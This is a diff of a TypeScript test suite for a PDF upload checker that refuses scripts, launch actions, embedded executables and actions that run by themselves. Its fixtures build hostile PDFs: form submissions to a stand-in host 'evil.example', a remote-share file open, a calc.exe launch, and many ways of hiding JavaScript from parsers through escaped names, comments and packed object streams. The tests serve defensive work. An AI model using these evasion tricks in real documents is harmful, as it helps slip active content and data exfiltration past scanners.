@@ -57,6 +57,43 @@ const launches = {
   })),
 };
 
+const calls = {
+  'an action that sends a form when it opens': inCatalog(
+    'OpenAction',
+    action('SubmitForm', { F: 'https://evil.example' }),
+  ),
+  'a button that sends a form': annotation((document) => ({
+    Subtype: 'Widget',
+    A: action('SubmitForm', { F: 'https://evil.example' })(document),
+  })),
+  'an action that opens a file of another computer': inCatalog(
+    'OpenAction',
+    action('GoToE', { F: '\\\\evil\\share' }),
+  ),
+};
+
+const unasked = {
+  'a web page that opens with it': inCatalog('OpenAction', action('URI', { URI: 'https://a.example' })),
+  'a web page that opens with it, by reference': inCatalog('OpenAction', (document) =>
+    document.context.register(action('URI', { URI: 'https://a.example' })(document)),
+  ),
+  'a web page after the first page is shown': inCatalog('OpenAction', (document) =>
+    document.context.obj({
+      S: 'GoTo',
+      D: [0, 'Fit'],
+      Next: action('URI', { URI: 'https://a.example' })(document),
+    }),
+  ),
+  'another PDF that opens with it': inCatalog('OpenAction', action('GoToR', { F: 'other.pdf' })),
+  'a web page that opens with a page': (document: PDFDocument) =>
+    document
+      .getPage(0)
+      .node.set(
+        PDFName.of('AA'),
+        document.context.obj({ O: action('URI', { URI: 'https://a.example' })(document) }),
+      ),
+};
+
 const attach = (document: PDFDocument) => document.attach(Buffer.from('MZ'), 'setup.exe');
 
 const files = {
@@ -72,54 +109,122 @@ describe('a PDF is refused, packed and plain, with', () => {
     ...Object.entries(scripts).map(([kind, change]) => ({ kind, change, found: 'scripts' })),
     ...Object.entries(launches).map(([kind, change]) => ({ kind, change, found: 'launch actions' })),
     ...Object.entries(files).map(([kind, change]) => ({ kind, change, found: 'embedded files' })),
+    ...Object.entries(calls).map(([kind, change]) => ({
+      kind,
+      change,
+      found: 'actions that send data or open other files',
+    })),
+    ...Object.entries(unasked).map(([kind, change]) => ({
+      kind,
+      change,
+      found: 'actions that run by themselves',
+    })),
   ];
   test.each(refused)('$kind', async ({ change, found }) => {
     const sentence = `This PDF has ${found}, which are not accepted. Print it to a new PDF, which leaves them out, and upload that.`;
     expect(await messageOf(await createPdf(change))).toBe(sentence);
     expect(await messageOf(await createPdf(change, false))).toBe(sentence);
   });
+});
 
-  const plain = '90 0 obj\n<< /S /JavaScript /JS (app.alert(1)) >>\nendobj\n';
-  const packed = Buffer.from('91 0 << /S /JavaScript /JS (app.alert(1)) >>');
-  const objects = '/Type /ObjStm /N 1 /First 5';
-  // A row of the PNG kind for each byte, which a reader undoes and our parser does not.
-  const predicted = Buffer.from([...packed].flatMap((byte) => [0, byte]));
+describe('a PDF is refused with what one reader finds and another does not:', () => {
+  /** An object that a table of offsets may lead to, and the harmless one that replaces it for all others. */
+  const replaced = (entries: string, ...more: (string | Buffer)[]) => [
+    `90 0 obj\n<< ${entries} >>\nendobj\n`,
+    ...more,
+    '90 0 obj\n<< /S /GoTo >>\nendobj\n',
+  ];
+  const script90 = '90 0 obj\n<< /S /JavaScript /JS (app.alert(1)) >>\nendobj\n';
   const hidden = {
-    'a name in which letters are escaped': [plain.replace('JavaScript', 'J#61v#61#53cript')],
-    'a script that a later object replaces': [
-      plain,
-      plain.replace('JavaScript', 'GoTo').replace('/JS', '/X'),
+    'a script with escaped letters': [script90.replace('JavaScript', 'J#61v#61#53cript')],
+    'a script that a later object replaces': replaced('/S /JavaScript /X (app.alert(1))'),
+    'a script in another stream’s data': [streamObject(90, '', Buffer.from(script90))],
+    'a script in a text of another object': [`91 0 obj (\n${script90}) endobj\n`],
+    'a script in another object, which its start makes a text': [
+      '91 0 obj << /A <92 0 obj (> /S /JavaScript /X (x) >> endobj\n',
     ],
-    'a script within another stream’s data': [streamObject(90, '', Buffer.from(plain))],
-    'a script in a packed stream within another’s data': [
-      streamObject(90, '', streamObject(91, `${objects} /Filter /FlateDecode`, deflateSync(packed))),
-    ],
-    'packed objects that are packed twice': [
-      streamObject(90, `${objects} /Filter [/FlateDecode /FlateDecode]`, deflateSync(deflateSync(packed))),
-    ],
-    'packed objects of an unusual kind': [
-      streamObject(90, `${objects} /Filter /ASCIIHexDecode`, Buffer.from(`${packed.toString('hex')}>`)),
-    ],
-    'packed objects that the parser cannot unpack': [
-      streamObject(
-        90,
-        `${objects} /Filter /FlateDecode /DecodeParms << /Predictor 12 /Columns 1 >>`,
-        deflateSync(predicted),
-      ),
-    ],
-    'packed objects whose type stands elsewhere': [
-      streamObject(
-        90,
-        '/Type 92 0 R /N 1 /First 5 /Filter /FlateDecode /DecodeParms << /Predictor 12 /Columns 1 >>',
-        deflateSync(predicted),
-      ),
-      '92 0 obj /ObjStm endobj\n',
-    ],
+    'a script behind a comment': replaced('/S %\n/JavaScript'),
+    'a script whose kind stands elsewhere': replaced('/S 91 0 R', '91 0 obj /JavaScript endobj\n'),
+    'a script whose object begins with a comment': ['90 %\n0%\robj % 1\n<< /S /JavaScript >> endobj\n'],
+    'a script of a rendition': replaced('/S /Rendition /R 91 0 R /JS(app.alert(1))'),
+    'a form of the XFA kind': replaced('/XFA 91 0 R'),
+    'a catalog in the trailer': ['trailer % 1\n<< /Root << /OpenAction << /S /JavaScript >> >> >>\n'],
   };
   test.each(Object.entries(hidden))('%s', async (_kind, added) => {
     expect(await messageOf(insertBytes(await createPdf(undefined, false), ...added))).toMatch(
-      /^This PDF has (scripts|unreadable objects), /,
+      /^This PDF has scripts, /,
     );
+  });
+
+  const others = {
+    'launch actions': replaced('/S %\n/Launch /F (calc.exe)'),
+    'embedded files': replaced('/EF %\n<</F 91 0 R>>', streamObject(91, '', Buffer.from('MZ'))),
+    'actions that run by themselves': [
+      '80 0 obj << /Type /Catalog /OpenAction 90 0 R >> endobj\n',
+      ...replaced('/S /URI /URI (https://a.example)'),
+    ],
+    'unreadable objects': ['90 0 obj << /A [ >> /S /GoTo >> endobj\n'],
+  };
+  test.each(Object.entries(others))('%s', async (found, added) => {
+    expect(await messageOf(insertBytes(await createPdf(undefined, false), ...added))).toContain(
+      `has ${found},`,
+    );
+  });
+
+  const script91 = '<< /S /JavaScript /JS (app.alert(1)) >>';
+  const packed = deflateSync(`91 0 ${script91}`);
+  const hex = (bytes: Buffer) => Buffer.from(`${bytes.toString('hex')}>`);
+  // A row of the PNG kind for each byte, which a reader undoes and our parser does not.
+  const predicted = deflateSync(`91 0 ${script91}`.replaceAll(/[^]/g, '\0$&'));
+  const objects = '/Type /ObjStm /N 1 /First 5';
+  const flate = '/Filter /FlateDecode';
+  const ways = {
+    'packed twice': streamObject(90, `${objects} /Filter [/FlateDecode /FlateDecode]`, deflateSync(packed)),
+    'written as digits': streamObject(
+      90,
+      `${objects} /Filter /ASCIIHexDecode`,
+      hex(Buffer.from(`91 0 ${script91}`)),
+    ),
+    'packed and written as digits': streamObject(
+      90,
+      `${objects} /Filter [/ASCIIHexDecode /FlateDecode]`,
+      hex(packed),
+    ),
+    'not packed': streamObject(90, objects, Buffer.from(`91 0 ${script91}`)),
+    transformed: streamObject(
+      90,
+      `${objects} ${flate} /DecodeParms << /Predictor 12 /Columns 1 >>`,
+      predicted,
+    ),
+    'of a type that stands elsewhere': streamObject(90, objects.replace('/ObjStm', '92 0 R'), packed),
+    'of two beginnings': streamObject(90, `${objects} /First 9 ${flate}`, packed),
+    'with an escaped space in a name': streamObject(90, `${objects} /Filter#20/FlateDecode`, packed),
+    'with garbage before the line break': Buffer.from(
+      streamObject(90, `${objects} ${flate}`, packed).toString('latin1').replace('stream\n', 'stream x\n'),
+      'latin1',
+    ),
+    'that begin in a text': streamObject(90, `${objects} ${flate}`, deflateSync(`91 1 (${script91})`)),
+    'of which there are more than their head says': streamObject(
+      90,
+      `${objects.replace('/N 1', '/N 2')} ${flate}`,
+      deflateSync(`91 0 93 6 (${script91})`),
+    ),
+    'with a comment in their head': streamObject(
+      90,
+      `${objects.replace('First 5', 'First 8')} ${flate}`,
+      deflateSync(`%9\n91 1 (${script91})`),
+    ),
+    'that are no data': streamObject(90, `${objects} ${flate}`, Buffer.from('none')),
+  };
+  test.each(Object.entries(ways))('packed objects %s', async (_kind, added) => {
+    expect(await messageOf(insertBytes(await createPdf(undefined, false), added))).toContain(
+      'has unreadable objects,',
+    );
+  });
+
+  test('a script in a packed stream within another’s data', async () => {
+    const stream = streamObject(90, '', streamObject(91, `${objects} ${flate}`, packed));
+    expect(await messageOf(insertBytes(await createPdf(undefined, false), stream))).toContain('has scripts,');
   });
 });
 
@@ -133,6 +238,14 @@ describe('a PDF is accepted with', () => {
       Subtype: 'Link',
       A: action('URI', { URI: 'https://water.example' })(document),
     })),
+    'an action that opens it at a page, by reference': inCatalog('OpenAction', ({ context }) =>
+      context.register(context.obj({ S: 'GoTo', D: [0, 'Fit'] })),
+    ),
+    'a place that it opens at': inCatalog('OpenAction', ({ context }) => context.obj([0, 'Fit'])),
+    'a link to another PDF': annotation((document) => ({
+      Subtype: 'Link',
+      A: action('GoToR', { F: 'other.pdf' })(document),
+    })),
     'a form without scripts': (document: PDFDocument) => {
       const field = document.getForm().createTextField('name');
       field.setText('Ada');
@@ -140,12 +253,27 @@ describe('a PDF is accepted with', () => {
     },
     'words that name what is refused': (document: PDFDocument) => {
       document.setTitle('HTML/JavaScript, /Launch and /EmbeddedFile');
+      inCatalog('PieceInfo', () => PDFString.of('a trailer 5 \\(0 objects of /JS \\)'))(document);
       document.getPage(0).drawText('HTML/JavaScript and /S/Launch', { size: 8 });
     },
   };
   test.each(Object.entries(accepted))('%s', async (_kind, change) => {
     expect(await messageOf(await createPdf(change))).toBeNull();
     expect(await messageOf(await createPdf(change, false))).toBeNull();
+  });
+
+  test('an older version of itself, as programs leave that add to a file', async () => {
+    const opened = inCatalog('OpenAction', ({ context }) =>
+      context.register(context.obj({ S: 'GoTo', D: [0, 'Fit'] })),
+    );
+    const plain = await createPdf(opened, false);
+    const [added = '', number = ''] =
+      /(\d+) 0 obj\n<<\n\/Type \/Pages[^]*?endobj\n/.exec(plain.toString('latin1')) ?? [];
+    expect(added).toContain('/Kids');
+    const table = `xref\n${number} 1\n${String(plain.length).padStart(10, '0')} 00000 n \n`;
+    const start = plain.length + added.length;
+    const trailer = `trailer\n<< /Size 9 /Prev 9 >>\nstartxref\n${start}\n%%EOF\n`;
+    expect(await messageOf(Buffer.concat([plain, Buffer.from(`${added}${table}${trailer}`)]))).toBeNull();
   });
 
   test('outlines, links and pictures of another program', async () => {
@@ -184,7 +312,9 @@ describe('a file that unfolds is refused within its budget of time and memory:',
     const before = { cpu: process.cpuUsage(), rss: process.memoryUsage.rss() };
     let peak = 0;
     const timer = setInterval(() => void (peak = Math.max(peak, process.memoryUsage.rss())), 20);
-    expect(await messageOf(file)).toMatch(/^This PDF takes too much time or memory to examine\./);
+    expect(await messageOf(file)).toMatch(
+      /^This PDF (?:takes too much time or memory to examine\.|has unreadable objects,)/,
+    );
     clearInterval(timer);
     const { user, system } = process.cpuUsage(before.cpu);
     // With the helpers that collect its garbage.
